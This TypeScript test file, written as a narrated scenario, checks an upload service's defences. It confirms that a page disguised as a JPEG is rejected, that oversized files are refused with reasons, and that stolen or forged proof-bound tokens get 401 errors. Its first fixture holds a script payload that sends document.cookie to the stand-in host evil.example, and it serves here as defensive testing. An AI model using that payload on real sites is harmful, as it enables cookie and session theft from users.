import { textOf } from '../caller.ts';
import { createProofKey } from '../proof-key.ts';
import type { Telling } from '../telling.ts';
import type { DayPass } from './exchange.ts';
import type { SignedIn } from './sign-in.ts';
import { askForPlace, awaitVerdict, type File, put } from './upload.ts';

/** A page with a script in it, under the name and type of a photo. */
const LIE: File = {
  filename: 'party.jpg',
  contentType: 'image/jpeg',
  bytes: Uint8Array.from(
    Buffer.from('<!doctype html><script>fetch("//evil.example/" + document.cookie)</script>'),
  ),
};

export const refuseLie = async (telling: Telling, ana: SignedIn, pass: DayPass): Promise<void> => {
  const { narrator, call } = telling;
  narrator.scene(
    'Somebody uploads a page and calls it a photo',
    'The storage cannot tell, since size and declared type are right. Daypass reads the bytes.',
  );
  const place = await askForPlace(telling, ana, pass, LIE);
  const stored = await put(telling, place, LIE);
  narrator.holds('the storage takes it', stored.status === 200, stored.status);
  const objectId = textOf(place, 'objectId');
  const { body } = await awaitVerdict(telling, ana, pass, objectId);
  const isRejected = body.status === 'rejected' && /image\/jpeg/.test(String(body.reason));
  narrator.holds('it is rejected, and the reason is its type', isRejected, body);
  const { token } = pass;
  const link = await call({ to: '/request-download', token, key: ana.key, json: { objectId } });
  narrator.holds('and nobody can ever read it', link.status === 404, link.body);
};

export const refuseExcess = async (
  { narrator, call }: Telling,
  { key }: SignedIn,
  { token }: DayPass,
): Promise<void> => {
  narrator.scene(
    'Ana tries a video, and learns what to do instead',
    'Every refusal to a proven caller names the field, the rule it breaks, and the remedy.',
  );
  const video = { filename: 'evening.mp4', size: 48_000_000, contentType: 'video/mp4' };
  const { status, body } = await call({ to: '/request-upload', token, key, json: video });
  const rules = [body.violations].flat().map((each) => (each as { rule?: string }).rule);
  const isExplained = status === 400 && `${rules}` === 'max_size,content_types';
  narrator.holds('it is refused, for its size and for its type', isExplained, { status, rules });
};

export const refuseThief = async (
  { narrator, call }: Telling,
  { token }: DayPass,
): Promise<void> => {
  narrator.scene(
    'A thief copies the pass out of the browser',
    'The key that it is bound to cannot be copied. Without it the pass opens nothing.',
  );
  const json = { filename: 'loot.png', size: 1, contentType: 'image/png' };
  const show = ['www-authenticate'];
  const bare = await call({ to: '/request-upload', token, scheme: 'Bearer', json, show });
  narrator.holds('as a bearer token it is refused: 401', bare.status === 401, bare.body);
  const forged = await call({ to: '/request-upload', token, key: createProofKey(), json });
  const isRefused = forged.status === 401 && forged.body.error === 'invalid_token';
  narrator.holds("with a proof of the thief's own key: 401", isRefused, forged.body);
};
